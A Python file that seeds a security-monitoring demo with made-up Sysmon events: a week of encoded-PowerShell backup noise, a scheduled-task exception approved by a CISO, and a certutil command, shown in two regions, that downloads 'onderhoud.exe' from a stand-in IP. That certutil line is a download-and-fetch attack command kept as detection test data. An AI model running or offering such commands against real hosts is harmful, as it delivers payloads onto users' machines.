"""A week of noise in the demo, an exception that works, and one thing that two regions saw."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, Final

from brandwacht.network.models import Node
from brandwacht.site.demo.stage import REGION, SOC, Stage
from brandwacht.soc import queries, services

ANALYST, CISO = "analist@demo.example", "ciso@demo.example"
BACKUP: Final = "powershell.exe -e SQBuAHYAbwBrAGUALQBCAGEAYwBrAHUAcAA="
"""What the made-up backup does every hour; the text behind it says that it makes a backup."""
DAYS: Final = 7
A_DAY: Final = 24
NEIGHBOURS: Final = ("VR15", "VR16")
FETCHED: Final = "certutil.exe -urlcache -f http://203.0.113.77/onderhoud.exe onderhoud.exe"
TOOL_HASH: Final = "SHA256=" + "5f0e" * 16


def fill(stage: Stage) -> Iterator[str]:
    """Seven days of a backup that looks like an attack, of which each day's alert is explained."""
    for day in range(DAYS, 0, -1):
        began = stage.now - timedelta(days=day)
        lines = [
            _process(began + timedelta(minutes=60 * n), "VRR-BK01", BACKUP, "powershell.exe", "svc-backup")
            for n in range(A_DAY - 1)
        ]
        _read(stage, REGION, f"back-up-{day}", lines, began + timedelta(hours=23))
        with stage.as_person(ANALYST, SOC, began + timedelta(hours=23, minutes=30)) as analyst:
            for alert in queries.waiting(analyst).filter(asset__name__startswith="VRR-BK01"):
                services.mark_known(analyst, alert.public_id, "De nachtelijke back-up, nagevraagd bij ICT (demo).")
    yield f"Waakzaam: {DAYS} dagen ruis van een back-up die op een aanval lijkt."
    for number, code in enumerate(NEIGHBOURS, 1):
        at = stage.now - timedelta(hours=number)
        line = _process(at, f"{code}-WS1", FETCHED, "certutil.exe", f"medewerker{number}", Hashes=TOOL_HASH)
        _read(stage, code, f"{code}-certutil", [line], stage.now)
    yield f"Waakzaam: hetzelfde bestand gezien bij {len(NEIGHBOURS)} regio's."
    yield _exception(stage)


def _exception(stage: Stage) -> str:
    with stage.as_person(ANALYST, SOC) as analyst:
        region = stage.organisation(REGION)
        host = Node.objects.filter(organisation=region, name__startswith="VRR-FS01").first()
        draft = services.ExceptionDraft(
            "Geplande taak die uit een tijdelijke map draait", technique="T1053.005",
            asset=host.public_id if host else None, subject="veld", field="CommandLine", how="begin",
            value="schtasks /create /tn LeverancierUpdate", owner_name="Team werkplek (demo)", days=10,
            reason="Update van een leverancier in het onderhoudsvenster (demo).",
        )  # fmt: skip
        row = services.propose(analyst, region.pk, draft)
    with stage.as_person(CISO, REGION) as ciso:
        services.approve(ciso, row.public_id)
    return "Waakzaam: 1 uitzondering, goedgekeurd door de CISO."


def process_line(at: datetime, host: str, command: str, image: str, user: str) -> str:
    """One made-up process event as a recorded line, for whoever plays on with the demo."""
    return _process(at, host, command, image, user)


def _process(at: datetime, host: str, command: str, image: str, user: str, **more: Any) -> str:
    moment = at.isoformat()
    return json.dumps(
        {
            "Event": {
                "System": {
                    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                    "EventID": 1,
                    "TimeCreated": {"#attributes": {"SystemTime": moment}},
                    "EventRecordID": int(at.timestamp()) % 1_000_000,
                    "Channel": "Microsoft-Windows-Sysmon/Operational",
                    "Computer": host,
                },
                "EventData": {
                    "UtcTime": moment,
                    "Image": f"C:\\Windows\\System32\\{image}",
                    "CommandLine": command,
                    "User": f"VRR\\{user}",
                    **more,
                },
            }
        }
    )


def _read(stage: Stage, code: str, name: str, lines: list[str], now: datetime) -> None:
    with tempfile.TemporaryDirectory() as scratch, stage.as_system(code, now) as actor:
        path = Path(scratch) / f"{name}-demo.jsonl"
        path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
        for _result in services.ingest(actor, path, services.rulebook_for(actor)):
            pass
